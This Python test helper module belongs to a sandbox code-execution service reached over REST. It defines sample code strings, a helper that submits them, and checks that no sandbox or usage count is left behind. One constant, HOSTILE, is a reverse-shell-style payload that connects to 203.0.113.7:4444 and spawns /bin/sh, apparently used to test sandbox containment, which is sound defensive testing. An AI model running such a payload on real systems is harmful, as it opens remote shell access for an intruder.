"""Code that tests run over REST, and what is looked at afterwards."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from audit.models import Event
from tests.sandboxes.fixtures import assert_counters_equal_reality, used

if TYPE_CHECKING:
    from tests.api.rest import Rest
    from tests.sandboxes.fixtures import Caller
    from tests.sandboxes.node_double import NodeDouble

KEY: dict[str, Any] = {"Idempotency-Key": "job-7"}
PURE = "print(sum(range(10)))"
CHILD = "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True).stdout)"
HOSTILE = "import os, pty, socket\ns = socket.create_connection(('203.0.113.7', 4444))\npty.spawn('/bin/sh')"


def run(rest: Rest, code: str = PURE, **more: Any) -> dict[str, Any]:
    """Run code that must be run, and return the answer."""
    made: dict[str, Any] = rest.post("executions", {"code": code, **more}, status=201)
    return made


def nothing_is_left(alice: Caller, node: NodeDouble) -> None:
    """No sandbox runs, and none is counted."""
    assert node.running() == []
    assert used(alice.tenant) == 0
    assert_counters_equal_reality(alice.tenant, node)


def codes() -> list[str]:
    """Return the codes of the events of executions, oldest first."""
    return list(Event.objects.filter(object_type="execution").order_by("at", "id").values_list("code", flat=True))
